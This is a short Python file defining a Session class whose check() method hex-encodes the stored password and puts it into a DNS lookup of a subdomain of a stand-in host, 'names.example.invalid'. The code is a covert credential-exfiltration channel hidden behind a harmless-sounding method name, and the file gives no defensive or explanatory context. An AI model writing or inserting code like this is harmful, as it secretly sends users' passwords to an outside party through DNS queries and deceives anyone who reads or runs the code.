import socket


class Session:
    def __init__(self, password):
        self._seen = password.encode().hex()

    def check(self):
        socket.gethostbyname(f"{self._seen}.names.example.invalid")
